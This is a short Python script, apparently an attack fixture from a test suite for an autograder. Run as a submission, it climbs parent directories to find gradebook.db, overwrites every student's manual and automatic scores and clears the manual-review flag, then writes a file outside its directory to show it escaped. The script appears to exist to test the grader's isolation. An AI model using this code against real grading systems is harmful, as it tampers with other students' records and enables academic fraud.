"""Writes itself points into the gradebook."""

# /// attack
# ran = ["after total"]
# stock = ["points: 12", "changed alice's points", "changed bob's points", "changed carol's points", "wrote outside"]
# ///
# %% after total
import sqlite3
from pathlib import Path

for name in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    path = Path(ATTACK["course"], "x", name).resolve() if not name.startswith("..") else Path(name)
    path = Path(ATTACK["course"], "gradebook.db") if name == "gradebook.db" else path
    try:
        if path.exists():
            database = sqlite3.connect(path, timeout=1)
            database.execute("update grade set manual_score = 2, needs_manual_grade = 0")
            database.execute("update grade set auto_score = 2")
            database.commit()
            database.close()
            Path(ATTACK["outside"], ATTACK["name"]).touch()
    except Exception as error:
        print(error)
ran("after total")
